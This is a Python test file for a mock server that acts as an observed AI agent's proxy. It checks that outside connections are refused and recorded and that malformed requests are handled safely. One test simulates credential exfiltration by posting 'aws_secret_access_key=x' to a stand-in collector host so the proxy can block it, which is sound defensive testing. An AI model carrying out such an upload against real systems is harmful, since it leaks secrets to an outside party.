"""The server as an agent's proxy: outside connections are recorded and refused; bad input is safe."""

from __future__ import annotations

import socket
from collections.abc import Callable

import httpx

from agentxray.observe.mockapi.recorder import Recorder

Started = Callable[..., tuple[str, Recorder]]


def _raw(url: str, data: bytes) -> bytes:
    host, port = url.removeprefix("http://").split(":")
    with socket.create_connection((host, int(port)), timeout=5) as sock:
        sock.sendall(data)
        chunks = []
        while chunk := sock.recv(65536):
            chunks.append(chunk)
    return b"".join(chunks)


def test_connect_is_recorded_and_refused(mock_server: Started) -> None:
    url, recorder = mock_server("hello")
    answer = _raw(
        url,
        b"CONNECT telemetry.example.com:443 HTTP/1.1\r\nHost: telemetry.example.com:443\r\n\r\n",
    )
    assert answer.startswith(b"HTTP/1.1 403 ")
    (ex,) = recorder.exchanges
    assert ex.method == "CONNECT" and ex.outcome == "proxy refused: telemetry.example.com:443"


def test_plain_http_through_the_proxy_keeps_the_body(mock_server: Started) -> None:
    url, recorder = mock_server("hello")
    with httpx.Client(proxy=url) as client:
        r = client.post(
            "http://collector.example.invalid/upload", content=b"aws_secret_access_key=x"
        )
    assert r.status_code == 403
    (ex,) = recorder.exchanges
    assert ex.target == "http://collector.example.invalid/upload"
    assert ex.request_body == b"aws_secret_access_key=x"


def test_malformed_request_gets_400_or_close_and_server_survives(mock_server: Started) -> None:
    url, recorder = mock_server("hello")
    answer = _raw(url, b"\x16\x03\x01 not http at all\r\n\r\n")
    assert answer == b"" or answer.startswith(b"HTTP/1.1 400")
    r = httpx.post(f"{url}/v1/messages", json={"model": "m", "messages": []})
    assert r.status_code == 200 and len(recorder.exchanges) == 1


def test_malformed_model_bodies_get_400_and_are_recorded(mock_server: Started) -> None:
    url, recorder = mock_server()
    bodies = [
        b"[1, 2]",
        b"not json",
        b'{"messages": "not a list", "tools": [{"name": 5}], "system": 7}',
        b'{"messages": [{"role": "assistant", "content": [null, 3, {"type": "tool_use"}]}]}',
    ]
    codes = [httpx.post(f"{url}/v1/messages", content=b).status_code for b in bodies]
    gemini = httpx.post(
        f"{url}/v1beta/models/x:generateContent",
        content=b'{"contents": [5, {"parts": "x"}], "tools": [1]}',
    )
    responses = httpx.post(
        f"{url}/v1/responses", content=b'{"input": [1, {"type": 5}], "tools": "x"}'
    )
    assert codes[:2] == [400, 400] and codes[2:] == [200, 200]
    assert gemini.status_code == 200 and responses.status_code == 200
    assert recorder.exchanges[0].outcome == "bad request: body is not a JSON object"
    assert len(recorder.exchanges) == 6
